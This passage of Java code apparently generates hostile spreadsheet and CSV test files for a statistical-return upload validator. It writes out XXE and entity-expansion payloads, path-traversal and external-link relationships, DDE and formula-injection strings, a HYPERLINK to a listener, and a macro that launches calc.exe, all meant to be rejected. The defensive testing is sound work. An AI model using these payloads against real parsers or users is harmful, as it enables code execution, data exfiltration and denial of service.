                        + "SYSTEM \"file://" + outside.resolve("evil.dtd") + "\">%dtd;]>"))
                .zip(true), rules(), "out-of-band XXE: parameter entities fetching a DTD that sends the canary out");
        StringBuilder lol = new StringBuilder("<!DOCTYPE worksheet [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 10; i++) {
            lol.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        lol.append("]>");
        file("h68-billion-laughs", "h68-billion-laughs.xlsx", Fate.REJECTED, uniqueBase("h68")
                .edit("xl/worksheets/sheet1.xml", x -> doctype(x, lol.toString()))
                .cell("F35", "<c r=\"F35\" s=\"16\" t=\"inlineStr\"><is><t>&lol10;</t></is></c>").zip(true), rules(),
                "billion laughs: 10^10 'lol's from nested entities in a value cell");
        String big = "a".repeat(50_000);
        file("h69-quadratic-blowup", "h69-quadratic-blowup.xlsx", Fate.REJECTED, uniqueBase("h69")
                .put("xl/sharedStrings.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE sst [<!ENTITY a \""
                        + big + "\">]><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                        + "count=\"1\" uniqueCount=\"1\"><si><t>" + "&a;".repeat(20_000) + "</t></si></sst>")
                .cell("F35", "<c r=\"F35\" s=\"16\" t=\"s\"><v>0</v></c>").zip(true), rules(),
                "quadratic blowup: a 50 000-character entity used 20 000 times (1 GB of text)");
        file("h70-xml-illegal-characters", "h70-xml-illegal-chars.xlsx", Fate.REJECTED, uniqueBase("h70")
                .cell("F35", "<c r=\"F35\" s=\"16\" t=\"inlineStr\"><is><t>1&#1;&#xFFFE;&#0;</t></is></c>").zip(true),
                rules(), "character references XML 1.0 forbids (&#1; &#xFFFE; &#0;) in a cell");
        file("h71-rels-traversal-external", "h71-rels-traversal.xlsx", Fate.REJECTED, uniqueBase("h71")
                .edit("xl/_rels/workbook.xml.rels", x -> x
                        .replace("Target=\"worksheets/sheet2.xml\"", "Target=\"../../../../../../" + outside.getFileName()
                                + "/secret-return.xlsx\"")
                        .replace("Target=\"sharedStrings.xml\"", "TargetMode=\"External\" Target=\"file://"
                                + c.secretReturn() + "\"")).zip(true), rules(),
                "relationships pointing out of the package (../../) and at a file outside (TargetMode External)");
    }

    private void cells() throws IOException {
        file("h72-number-1e999999999", "h72-huge-exponent.xlsx", Fate.REJECTED, uniqueBase("h72")
                .cell("F205", "<c r=\"F205\" s=\"16\" t=\"n\"><v>1E+999999999</v></c>").zip(true),
                rules("NumberTooLong", "NotANumber"), "a numeric cell 1E+999999999");
        file("h73-nan-cell", "h73-nan.xlsx", Fate.REJECTED, uniqueBase("h73")
                .cell("F35", "<c r=\"F35\" s=\"16\" t=\"n\"><v>NaN</v></c>").zip(true), rules("NotANumber"),
                rules("UnreadableFile", "InternalError"), "F35", List.of(), "a numeric cell holding NaN: one finding "
                        + "on that cell, not an unreadable file");
        file("h74-shared-string-index-max", "h74-shared-string-index.xlsx", Fate.REJECTED, uniqueBase("h74")
                .cell("F205", "<c r=\"F205\" s=\"16\" t=\"s\"><v>2147483647</v></c>").zip(true), rules(),
                "a shared-string cell pointing at index 2147483647 (the table is empty)");
        String longText = longText(11_000);
        file("h75-cell-11000-characters", "h75-long-cell.xlsx", Fate.REJECTED, uniqueBase("h75")
                .cell("F35", inline("F35", longText, 16)).zip(true), rules("CellTextTooLong"), rules(), null,
                List.of(longText.substring(0, 1000)), "a value cell of 11 000 characters");
        String longNote = longText(11_000).replace('Ҳ', 'Ж');
        file("h76-note-11000-characters", "h76-long-note.xlsx", Fate.REJECTED, uniqueBase("h76")
                .note("M66", longNote).zip(true), rules("CellTextTooLong"), rules(), null,
                List.of(longNote.substring(0, 1000)), "a note of 11 000 characters");
        file("h77-number-25-digits", "h77-long-number.xlsx", Fate.REJECTED, uniqueBase("h77")
                .cell("F205", "<c r=\"F205\" s=\"16\" t=\"n\"><v>1234567890123456789012345</v></c>").zip(true),
                rules("NumberTooLong"), "a numeric cell of 25 digits");
        file("h78-date-in-count-cell", "h78-date-builtin.xlsx", Fate.REJECTED, uniqueBase("h78")
                .edit("xl/styles.xml", x -> x.replace("<cellXfs count=\"19\">", "<cellXfs count=\"20\">")
                        .replace("</cellXfs>", "<xf numFmtId=\"14\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" "
                                + "applyNumberFormat=\"true\"/></cellXfs>"))
                .cell("F205", "<c r=\"F205\" s=\"19\" t=\"n\"><v>44197</v></c>").zip(true), rules("DateInValueCell"),
                "a count cell formatted as a date (built-in format 14: 1/1/2021)");
        file("h79-date-custom-format", "h79-date-custom.xlsx", Fate.REJECTED, uniqueBase("h79")
                .edit("xl/styles.xml", x -> x.replace("<numFmts count=\"0\"/>", "<numFmts count=\"1\"><numFmt "
                                + "numFmtId=\"164\" formatCode=\"dd\\.mm\\.yyyy\"/></numFmts>")
                        .replace("<cellXfs count=\"19\">", "<cellXfs count=\"20\">")
                        .replace("</cellXfs>", "<xf numFmtId=\"164\" fontId=\"0\" fillId=\"0\" borderId=\"0\" xfId=\"0\" "
                                + "applyNumberFormat=\"true\"/></cellXfs>"))
                .cell("F205", "<c r=\"F205\" s=\"19\" t=\"n\"><v>44287</v></c>").zip(true), rules("DateInValueCell"),
                "a count cell in a custom date format dd.mm.yyyy (01.04.2021)");
        file("h80-identification-mismatch", "h80-identification-mismatch.xlsx", Fate.REJECTED, uniqueBase("h80")
                .cell("C3", inline("C3", "Бухоро вилояти", 5)).cell("C4", inline("C4", "Жондор тумани", 5))
                .cell("C5", inline("C5", "1706246", 5)).zip(true), rules("IdentificationMismatch"),
                "the visible block names Jondor (1706246), the hidden _libstats sheet Kattaqo'rg'on (1718215)");
        file("h81-sheet-name-injection", "h81-sheet-name.xlsx", Fate.REJECTED, uniqueBase("h81")
                .edit("xl/workbook.xml", x -> x.replace("name=\"Ҳисобот\"", "name=\"=cmd|' /C calc'!A0&#10;&#8238;x\"")
                        .replaceAll("<definedNames>.*</definedNames>", "")).zip(true), rules("NegativeValue"),
                "the visible sheet is named =cmd|' /C calc'!A0 with a newline and a bidi override");
        file("h82-values-formula-injection", "h82-values-injection.xlsx", Fate.REJECTED, uniqueBase("h82")
                .cell("F35", inline("F35", "=1+1", 16)).cell("H35", inline("H35", "+cmd|' /C calc'!A0", 16))
                .cell("F13", inline("F13", "@SUM(1,1)", 16)).cell("H13", inline("H13", "\t=1+1", 16))
                .cell("F48", inline("F48", "-2+3", 16)).cell("F205", inline("F205", "\r=1+1", 16)).zip(true),
                rules("NotANumber"), "formula-injection texts typed into value cells");
    }

    private void formulasMacrosLinks(Canaries c) throws IOException {
        file("h83-notes-formula-injection", "h83-notes-injection.xlsx", Fate.REJECTED, uniqueBase("h83")
                .note("M66", "=1+1").note("M67", "+cmd|' /C calc'!A0").note("M68", "-2+3").note("M69", "@SUM(1,1)")
                .note("M70", "\t=1+1").note("M80", "\r=1+1").zip(true), rules("NegativeValue"),
                "formula-injection texts in the notes of done / not done rows");
        file("h84-dde-and-formulas", "h84-dde.xlsx", Fate.REJECTED, uniqueBase("h84")
                .cell("M66", "<c r=\"M66\" s=\"17\" t=\"str\"><f>" + xmlEscape(DDE) + "</f><v>0</v></c>")
                .cell("F35", "<c r=\"F35\" s=\"16\"><f>" + xmlEscape(DDE) + "</f><v>125</v></c>")
                .cell("H35", "<c r=\"H35\" s=\"16\"><f>300+34</f><v>334</v></c>").zip(true), rules("NegativeValue"),
                "a DDE formula =cmd|' /C calc'!A0 in a note and in a value cell (cached value 125), a sum in another");
        Xlsx hyperlink = uniqueBase("h85")
                .cell("M66", "<c r=\"M66\" s=\"17\" t=\"str\"><f>HYPERLINK(\"" + listener + "/hyperlink\",\"click me\")"
                        + "</f><v>click me</v></c>")
                .edit("xl/worksheets/sheet1.xml", x -> x.replaceFirst("<worksheet xmlns=\"([^\"]+)\">",
                                "<worksheet xmlns=\"$1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                        + "relationships\">")
                        .replace("<pageMargins", "<hyperlinks><hyperlink ref=\"M67\" r:id=\"rIdH1\"/></hyperlinks>"
                                + "<pageMargins"))
                .cell("M67", inline("M67", "open me", 17))
                .put("xl/worksheets/_rels/sheet1.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                        + "<Relationship Id=\"rIdH1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                        + "relationships/hyperlink\" Target=\"file://" + c.passwd() + "\" TargetMode=\"External\"/>"
                        + "</Relationships>");
        file("h85-hyperlinks", "h85-hyperlinks.xlsx", Fate.REJECTED, hyperlink.zip(true), rules("NegativeValue"),
                "a HYPERLINK formula to the listener and a cell hyperlink to the passwd canary");
        POIFSFileSystem vba = new POIFSFileSystem();
        vba.createDocument(new ByteArrayInputStream(("Attribute VB_Name = \"ThisWorkbook\"\nSub Workbook_Open()\n"
                + "Shell \"calc.exe\"\nEnd Sub\n' " + run).getBytes(StandardCharsets.US_ASCII)), "PROJECT");
        ByteArrayOutputStream vbaBytes = new ByteArrayOutputStream();
        vba.writeFilesystem(vbaBytes);
        vba.close();
        Xlsx macro = uniqueBase("h86")
                .put("xl/vbaProject.bin", vbaBytes.toByteArray())
                .edit("[Content_Types].xml", x -> x.replace("application/vnd.openxmlformats-officedocument."
                                + "spreadsheetml.sheet.main+xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                        .replace("</Types>", "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office."
                                + "vbaProject\"/></Types>"))
                .edit("xl/_rels/workbook.xml.rels", x -> x.replace("</Relationships>", "<Relationship Id=\"rIdV1\" "
                        + "Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" "
                        + "Target=\"vbaProject.bin\"/></Relationships>"));
        file("h86-vba-project", "h86-macro.xlsx", Fate.REJECTED, macro.zip(true), rules(),
                "a VBA project (xl/vbaProject.bin, macro-enabled content type) under an .xlsx name");
        Xlsx external = uniqueBase("h87")
                .put("xl/externalLinks/externalLink1.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
                        + "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                        + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook "
                        + "r:id=\"rId1\"><sheetNames><sheetName val=\"Sheet1\"/></sheetNames><sheetDataSet><sheetData "
                        + "sheetId=\"0\"><row r=\"1\"><cell r=\"A1\"><v>1</v></cell></row></sheetData></sheetDataSet>"
                        + "</externalBook></externalLink>")
                .put("xl/externalLinks/_rels/externalLink1.xml.rels", "<?xml version=\"1.0\" encoding=\"UTF-8\" "
                        + "standalone=\"yes\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/"
                        + "relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
                        + "officeDocument/2006/relationships/externalLinkPath\" Target=\"file://" + c.secretReturn()
                        + "\" TargetMode=\"External\"/></Relationships>")
                .edit("xl/_rels/workbook.xml.rels", x -> x.replace("</Relationships>", "<Relationship Id=\"rIdE1\" "
                        + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" "
                        + "Target=\"externalLinks/externalLink1.xml\"/></Relationships>"))
                .edit("xl/workbook.xml", x -> x.replace("</sheets>", "</sheets><externalReferences><externalReference "
                        + "r:id=\"rIdE1\"/></externalReferences>"))
                .edit("[Content_Types].xml", x -> x.replace("</Types>", "<Override ContentType=\"application/vnd."
                        + "openxmlformats-officedocument.spreadsheetml.externalLink+xml\" PartName=\"/xl/externalLinks/"
                        + "externalLink1.xml\"/></Types>"))
                .cell("M66", "<c r=\"M66\" s=\"17\" t=\"str\"><f>[1]Sheet1!A1</f><v>1</v></c>");
        file("h87-external-link", "h87-external-link.xlsx", Fate.REJECTED, external.zip(true), rules(),
                "an external-link part to a workbook outside, used by a formula");
    }

    private void csvFiles() throws IOException {
        List<String> unknown = csvWithDistrict("1799999", "h88");
        file("h88-csv-utf16le-bom", "h88-utf16le.csv", Fate.REJECTED, withBom(String.join("\r\n", unknown),
                StandardCharsets.UTF_16LE, new byte[] {(byte) 0xFF, (byte) 0xFE}), rules("UnknownDistrict"),
                "a UTF-16LE CSV with BOM, readable, naming an unknown district (1799999)");
        List<String> unknownBe = csvWithDistrict("1799999", "h89");
        file("h89-csv-utf16be-bom", "h89-utf16be.csv", Fate.REJECTED, withBom(String.join("\r\n", unknownBe),
                StandardCharsets.UTF_16BE, new byte[] {(byte) 0xFE, (byte) 0xFF}), rules("UnknownDistrict"),
                "a UTF-16BE CSV with BOM, readable, naming an unknown district (1799999)");
        List<String> noBom = csvWithDistrict("1799999", "h90");
        file("h90-csv-utf16le-no-bom", "h90-utf16le-no-bom.csv", Fate.REJECTED,
                String.join("\r\n", noBom).getBytes(StandardCharsets.UTF_16LE), rules("UnknownEncoding", "UnknownDistrict"),
                "a UTF-16LE CSV without a BOM (unknown district)");
        List<String> cp1251 = csvWithDistrict("1799999", "h91");
        file("h91-csv-windows-1251", "h91-cp1251.csv", Fate.REJECTED,
                String.join("\r\n", cp1251).getBytes(Charset.forName("windows-1251")), rules("UnknownEncoding"),
                "a CSV in windows-1251 (Cyrillic done words and notes; unknown district)");
        List<String> nul = csvNegative("h92");
        replaceValue(nul, "1.5", "titles", "12\u00003");
        setNote(nul, "4.7", "note\u0000with NUL");
        file("h92-csv-nul-in-value-and-note", "h92-nul.csv", Fate.REJECTED, csvBytes(nul), rules(),
                "NUL bytes in a value (12\\u00003) and in a note");
        List<String> nulNote = csvNegative("h93");
        setNote(nulNote, "4.7", "only the note\u0000has a NUL");
        file("h93-csv-nul-in-note", "h93-nul-note.csv", Fate.REJECTED, csvBytes(nulNote), rules("NegativeValue"),
                "a NUL byte in a note (and a negative figure)");
        if (include.test("h94-csv-million-lines")) {
            Path million = dir.resolve("h94-million-lines.csv");
            try (OutputStream out = new java.io.BufferedOutputStream(Files.newOutputStream(million), 1 << 16)) {
                out.write((csv.get(0) + "\n").getBytes(StandardCharsets.UTF_8));
                byte[] line = (DISTRICT + ";2021;1;1.1;titles;10937;\n").getBytes(StandardCharsets.UTF_8);
                for (int i = 0; i < 1_000_000; i++) {
                    out.write(line);
                }
                out.write(("# " + run + "\n").getBytes(StandardCharsets.UTF_8));
            }
            add("h94-csv-million-lines", "h94-million-lines.csv", Fate.REJECTED, rules("FileTooLarge", "TooManyRows"),
                    rules(), "a CSV of a million lines (33 MB)");
        }
        List<String> rows = csvNegative("h95");
        for (int i = 0; i < 20_000; i++) {
            rows.add(DISTRICT + ";2021;1;1.1;titles;" + i + ";");
        }
        file("h95-csv-20000-lines", "h95-20000-lines.csv", Fate.REJECTED, csvBytes(rows), rules("TooManyRows"),
                "a CSV of 20 000 lines, under 1 MB");
        List<String> wide = new ArrayList<>();
        String extra = ";x".repeat(300);
        for (String line : csvNegative("h96")) {
            wide.add(line + extra);
        }
        file("h96-csv-300-columns", "h96-wide.csv", Fate.REJECTED, csvBytes(wide), rules("TooManyColumns"),
                "a CSV of 307 fields per line");
        String tail = longText(11_000);
        String note = "first line\r\nsecond \"quoted\" line;\r\n" + tail.substring(40);
        List<String> longField = csvNegative("h97");
        setNote(longField, "4.7", note);
        file("h97-csv-quoted-field-11000", "h97-long-field.csv", Fate.REJECTED, csvBytes(longField),
                rules("CellTextTooLong"), rules(), null, List.of(tail.substring(1000, 2000)),
                "a quoted note of 11 000 characters with escaped quotes and line breaks");
        List<String> unbalanced = csvNegative("h98");
        unbalanced.add(2, DISTRICT + ";2021;1;4.3;done;\"бажарилди;never closed");
        file("h98-csv-unbalanced-quote", "h98-unbalanced.csv", Fate.REJECTED, csvBytes(unbalanced), rules(),
                "a quote opened on line 3 and never closed");
        List<String> dupHeader = csvNegative("h99");
        dupHeader.set(0, "district;district;year;quarter;indicator;measure;value;note");
        file("h99-csv-duplicate-header", "h99-duplicate-header.csv", Fate.REJECTED, csvBytes(dupHeader), rules(),
                "the header names the column district twice");
        List<String> injection = csvNegative("h100");
        replaceValue(injection, "1.1", "titles", "=1+1");
        replaceValue(injection, "1.1", "copies", "+cmd|' /C calc'!A0");
        replaceValue(injection, "1.5", "titles", "@SUM(1,1)");
        replaceValue(injection, "1.5", "copies", "-2+3");
        setNote(injection, "4.7", "=HYPERLINK(\"" + listener + "/csv\",\"x\")");
        file("h100-csv-formula-injection", "h100-injection.csv", Fate.REJECTED, csvBytes(injection),
                rules("NotANumber"), "formula-injection texts as CSV values and a HYPERLINK note");
        List<String> exponent = csvNegative("h101");
        replaceValue(exponent, "1.1", "titles", "1e999999999");
        file("h101-csv-huge-exponent", "h101-exponent.csv", Fate.REJECTED, csvBytes(exponent),
                rules("NumberTooLong", "NotANumber"), "a CSV value 1e999999999");
        file("h102-csv-whitespace-only", "h102-blank.csv", Fate.REJECTED, " \r\n\t\n \n".getBytes(), rules("EmptyFile",
                "NoReturnTable", "UnreadableFile"), "a CSV of blanks and line breaks only");
    }

    // ------------------------------------------------------------------------------------------------
    // Writing cases

    private static Set<String> rules(String... codes) {
        return new LinkedHashSet<>(List.of(codes));
    }

    private void add(String name, String path, Fate fate, Set<String> rules, Set<String> forbidden, String what) {
        add(name, path, fate, rules, forbidden, null, List.of(), what);
    }

    private void add(String name, String path, Fate fate, Set<String> rules, Set<String> forbidden, String cell,
                     List<String> notInFeedback, String what) {
        // InternalError ("the system failed on this file, send it again unchanged") is never the answer to a
        // hostile file: it is the crash (an OutOfMemoryError, a NUL reaching PostgreSQL) that was to be prevented.
        Set<String> never = new LinkedHashSet<>(forbidden);
        never.add("InternalError");
        if (cases.put(name, new Case(name, path, fate, Set.copyOf(rules), Set.copyOf(never), cell,
                List.copyOf(notInFeedback), what)) != null) {
            throw new IllegalStateException("two cases named " + name);
        }
    }

    private void file(String name, String path, Fate fate, byte[] bytes, Set<String> rules, String what)
            throws IOException {
        file(name, path, fate, bytes, rules, rules(), null, List.of(), what);
    }

    private void file(String name, String path, Fate fate, byte[] bytes, Set<String> rules, Set<String> forbidden,
                      String cell, List<String> notInFeedback, String what) throws IOException {
        if (!include.test(name)) {
            return;
        }
        Path target = dir.resolve(path);
        Files.createDirectories(target.getParent());
        Files.write(target, bytes, StandardOpenOption.CREATE_NEW);
        add(name, path, fate, rules, forbidden, cell, notInFeedback, what);
    }

    private void rejectedReturn(String name, String path, String what) throws IOException {
        file(name, path, Fate.REJECTED, uniqueReturn(name), rules("NegativeValue"), what);
    }

    private void symlink(String name, String path, Path target, String what) throws IOException {
        if (!include.test(name)) {
            return;
        }
        Files.createSymbolicLink(dir.resolve(path), target);
        leftAlone(name, path, what);
    }

    private void leftAlone(String name, String path, String what) {
        if (!include.test(name)) {
            return;
        }
        add(name, path, Fate.LEFT_ALONE, rules(), rules(), what);
    }

    private static void run(String... command) throws IOException {
        try {
            Process process = new ProcessBuilder(command).inheritIO().start();
            if (!process.waitFor(30, TimeUnit.SECONDS) || process.exitValue() != 0) {
                throw new IOException("failed: " + String.join(" ", command));
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IOException(e);
        }
    }

    // ------------------------------------------------------------------------------------------------
    // Workbooks

    /**
     * Jondor's good Q1 return made Kattaqo'rg'on's (hidden sheet and visible block), with 5.9 = -5:
     * a return rejected for one plain reason, NegativeValue.
     */
    private static Xlsx baseReturn(Path jondorQ1) throws IOException {
        Xlsx xlsx = Xlsx.read(jondorQ1);
        xlsx.edit("xl/worksheets/sheet2.xml", x -> x.replace("<t>1706246</t>", "<t>" + DISTRICT + "</t>")
                .replace("<t>1706</t>", "<t>" + REGION + "</t>"));
        xlsx.edit("xl/worksheets/sheet1.xml", x -> x.replace("<t>Бухоро вилояти</t>", "<t>Самарқанд вилояти</t>")
                .replace("<t>Жондор тумани</t>", "<t>Каттақўрғон тумани</t>")
                .replace("<t>1706246</t>", "<t>" + DISTRICT + "</t>")
                .replace("Жондор тумани, Бухоро вилояти", "Каттақўрғон тумани, Самарқанд вилояти"));
        if (!xlsx.text("xl/worksheets/sheet2.xml").contains(DISTRICT) || !xlsx.sheet().contains(DISTRICT)) {
            throw new IllegalStateException("the sample return no longer looks as expected");
        }
        return xlsx.cell("F104", "<c r=\"F104\" s=\"16\" t=\"n\"><v>-5</v></c>");
    }

    /** The base return with a note of its own, so that no two cases share bytes. */
    private Xlsx uniqueBase(String marker) {
        return base.copy().note("M97", "Ҳолат " + marker + " " + run);
    }

    private byte[] uniqueReturn(String marker) {
        return uniqueBase(marker).zip(true);
    }

    /** The legacy .xls sample with 5.9 = -5. */
    private byte[] legacyNegative() throws IOException {
        try (HSSFWorkbook wb = new HSSFWorkbook(new ByteArrayInputStream(legacy))) {
            Sheet sheet = wb.getSheetAt(0);
            int codeColumn = -1;
            int valueColumn = -1;
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING) {
                        String text = cell.getStringCellValue();
                        if (codeColumn < 0 && Label.CODE.matches(text)) {
                            codeColumn = cell.getColumnIndex();
                        }
                        if (valueColumn < 0 && Label.VALUE_1.matches(text)) {
                            valueColumn = cell.getColumnIndex();
                        }
                    }
                }
                if (codeColumn >= 0 && valueColumn >= 0 && row.getCell(codeColumn) != null
                        && row.getCell(codeColumn).getCellType() == CellType.STRING
                        && row.getCell(codeColumn).getStringCellValue().equals("5.9")) {
                    row.getCell(valueColumn).setCellValue(-5);
                    ByteArrayOutputStream out = new ByteArrayOutputStream();
                    wb.write(out);
                    return out.toByteArray();
                }
            }
        }
        throw new IllegalStateException("no row 5.9 in the legacy sample");
    }

    private static byte[] ole2(Map<String, byte[]> streams) throws IOException {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            for (var stream : new java.util.TreeMap<>(streams).entrySet()) {
                fs.createDocument(new ByteArrayInputStream(stream.getValue()), stream.getKey());
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            fs.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    /** The sheet with {@code megabytes} MiB of rows before its end, as one deflated entry built without holding it. */
    private static Zip.Entry padded(String name, String sheet, int megabytes) {
        int end = sheet.indexOf("</sheetData>");
        byte[] prefix = sheet.substring(0, end).getBytes(StandardCharsets.UTF_8);
        byte[] suffix = sheet.substring(end).getBytes(StandardCharsets.UTF_8);
        String row = "<row><c t=\"inlineStr\"><is><t>padding</t></is></c></row>";
        byte[] chunk = row.repeat((1 << 20) / row.length()).getBytes(StandardCharsets.US_ASCII);
        return Zip.repeated(name, prefix, chunk, megabytes, suffix);
    }

    private static String doctype(String xml, String doctype) {
        int declarationEnd = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, declarationEnd) + doctype + xml.substring(declarationEnd);
    }

    private static String insertInRow(String sheet, int row, String cells) {
        Matcher m = Pattern.compile("(<row r=\"" + row + "\"[^>]*>.*?)(</row>)", Pattern.DOTALL).matcher(sheet);
        if (!m.find()) {
            throw new IllegalStateException("no row " + row);
        }
        return sheet.substring(0, m.start(2)) + cells + sheet.substring(m.start(2));
    }

    static String inline(String ref, String text, int style) {
        return "<c r=\"" + ref + "\" s=\"" + style + "\" t=\"inlineStr\"><is><t xml:space=\"preserve\">"
                + xmlEscape(text) + "</t></is></c>";
    }

    static String xmlEscape(String text) {
        StringBuilder out = new StringBuilder(text.length() + 16);
        for (char ch : text.toCharArray()) {
            switch (ch) {
                case '&' -> out.append("&amp;");
                case '<' -> out.append("&lt;");
                case '>' -> out.append("&gt;");
                case '"' -> out.append("&quot;");
                case '\r' -> out.append("&#13;");
                case '\t' -> out.append("&#9;");
                default -> out.append(ch);
            }
        }
        return out.toString();
    }

    private static String longText(int length) {
        String unit = "Ҳ0123456789 абвгд ";
        return unit.repeat(length / unit.length() + 1).substring(0, length);
    }

    /** A workbook as its parts, edited as text. */
    static final class Xlsx {

        private final LinkedHashMap<String, byte[]> parts;

        private Xlsx(LinkedHashMap<String, byte[]> parts) {
            this.parts = parts;
        }

        /** By the zip's central directory: the samples' local headers carry no sizes, which ZipInputStream refuses. */
        static Xlsx read(Path zip) throws IOException {
            LinkedHashMap<String, byte[]> parts = new LinkedHashMap<>();
            try (ZipFile file = new ZipFile(zip.toFile())) {
                for (ZipEntry entry : Collections.list(file.entries())) {
                    try (var in = file.getInputStream(entry)) {
                        parts.put(entry.getName(), in.readAllBytes());
                    }
                }
            }
            return new Xlsx(parts);
        }

        Xlsx copy() {
            return new Xlsx(new LinkedHashMap<>(parts));
        }

        String text(String part) {
            byte[] bytes = parts.get(part);
            if (bytes == null) {
                throw new IllegalArgumentException("no part " + part);
            }
            return new String(bytes, StandardCharsets.UTF_8);
        }

        String sheet() {
            return text("xl/worksheets/sheet1.xml");
        }

        Xlsx put(String part, String text) {
            return put(part, text.getBytes(StandardCharsets.UTF_8));
        }

        Xlsx put(String part, byte[] bytes) {
            parts.put(part, bytes);
            return this;
        }

        Xlsx edit(String part, UnaryOperator<String> edit) {
            String before = text(part);
            String after = edit.apply(before);
            if (after.equals(before)) {
                throw new IllegalStateException("the edit of " + part + " changed nothing");
            }
            return put(part, after);
        }

        /** Replaces the cell {@code ref} of the visible sheet (it must exist) with {@code cellXml}. */
        Xlsx cell(String ref, String cellXml) {
            return edit("xl/worksheets/sheet1.xml", x -> {
                Matcher m = Pattern.compile("<c r=\"" + ref + "\"[^>]*?(?:/>|>.*?</c>)", Pattern.DOTALL).matcher(x);
                if (!m.find()) {
                    throw new IllegalStateException("no cell " + ref);
                }
                return x.substring(0, m.start()) + cellXml + x.substring(m.end());
            });
        }

        Xlsx note(String ref, String text) {
            return cell(ref, inline(ref, text, 17));
        }

        Zip toZip(boolean deflate) {
            Zip zip = new Zip();
            parts.forEach((name, bytes) -> {
                if (deflate) {
                    zip.add(name, bytes);
                } else {
                    zip.stored(name, bytes);
                }
            });
            return zip;
        }

        byte[] zip(boolean deflate) {
            return toZip(deflate).bytes();
        }
    }

    /**
     * A zip written byte by byte, so that it can be wrong in every way a hostile one is: duplicate
     * and traversing names, lying sizes and CRCs, encryption flags, symlink entries, sparse parts.
     */
    static final class Zip {

        record Entry(String name, int method, byte[] data, long crc, long compressedSize, long size, int flags,
                     int unixMode, long sparseZeros) {

            Entry withCrc(long newCrc) {
                return new Entry(name, method, data, newCrc, compressedSize, size, flags, unixMode, sparseZeros);
            }

            Entry withFlags(int newFlags) {
                return new Entry(name, method, data, crc, compressedSize, size, newFlags, unixMode, sparseZeros);
            }

            Entry lyingAbout(long claimedSize) {
                return new Entry(name, method, data, crc, compressedSize, claimedSize, flags, unixMode, sparseZeros);
            }

            static Entry symlink(String name, String target) {
                byte[] bytes = target.getBytes(StandardCharsets.UTF_8);
                CRC32 crc = new CRC32();
                crc.update(bytes);
                return new Entry(name, 0, bytes, crc.getValue(), bytes.length, bytes.length, 0, 0120777, 0);
            }
        }

        private final List<Entry> entries = new ArrayList<>();

        Zip add(String name, byte[] content) {
            CRC32 crc = new CRC32();
            crc.update(content);
            byte[] deflated = deflateSegment(content, true);
            entries.add(new Entry(name, 8, deflated, crc.getValue(), deflated.length, content.length, 0, 0100644, 0));
            return this;
        }

        Zip add(Entry entry) {
            entries.add(entry);
            return this;
        }

        Zip stored(String name, byte[] content) {
            CRC32 crc = new CRC32();
            crc.update(content);
            entries.add(new Entry(name, 0, content, crc.getValue(), content.length, content.length, 0, 0100644, 0));
            return this;
        }

        /** A stored part of {@code size} zero bytes that is never materialised: a hole in the file. */
        Zip sparse(String name, long size) {
            CRC32 crc = new CRC32();
            byte[] zeros = new byte[1 << 20];
            for (long done = 0; done < size; done += zeros.length) {
                crc.update(zeros, 0, (int) Math.min(zeros.length, size - done));
            }
            entries.add(new Entry(name, 0, null, crc.getValue(), size, size, 0, 0100644, size));
            return this;
        }

        /** Replaces the entry of the same name. */
        Zip replace(Entry entry) {
            for (int i = 0; i < entries.size(); i++) {
                if (entries.get(i).name().equals(entry.name())) {
                    entries.set(i, entry);
                    return this;
                }
            }
            throw new IllegalArgumentException("no entry " + entry.name());
        }

        Zip mapEntries(UnaryOperator<Entry> change) {
            entries.replaceAll(change);
            return this;
        }

        /**
         * A deflated entry of {@code prefix}, {@code repeats} times {@code chunk}, then {@code suffix},
         * compressed once per distinct piece: each piece ends on a full flush, so the compressed chunk
         * can be repeated as it is.
         */
        static Entry repeated(String name, byte[] prefix, byte[] chunk, int repeats, byte[] suffix) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            CRC32 crc = new CRC32();
            out.writeBytes(deflateSegment(prefix, false));
            crc.update(prefix);
            byte[] compressedChunk = deflateSegment(chunk, false);
            for (int i = 0; i < repeats; i++) {
                out.writeBytes(compressedChunk);
                crc.update(chunk);
            }
            out.writeBytes(deflateSegment(suffix, true));
            crc.update(suffix);
            long size = prefix.length + (long) chunk.length * repeats + suffix.length;
            byte[] data = out.toByteArray();
            return new Entry(name, 8, data, crc.getValue(), data.length, size, 0, 0100644, 0);
        }

        byte[] bytes() {
            if (entries.stream().anyMatch(e -> e.sparseZeros() > 0)) {
                throw new IllegalStateException("a sparse zip is written to a file");
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try {
                write(new Sink() {
                    long position;

                    @Override
                    public void write(ByteBuffer buffer) {
                        position += buffer.remaining();
                        out.write(buffer.array(), buffer.arrayOffset() + buffer.position(), buffer.remaining());
                    }

                    @Override
                    public void skip(long n) {
                        throw new UnsupportedOperationException();
                    }

                    @Override
                    public long position() {
                        return position;
                    }
                });
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
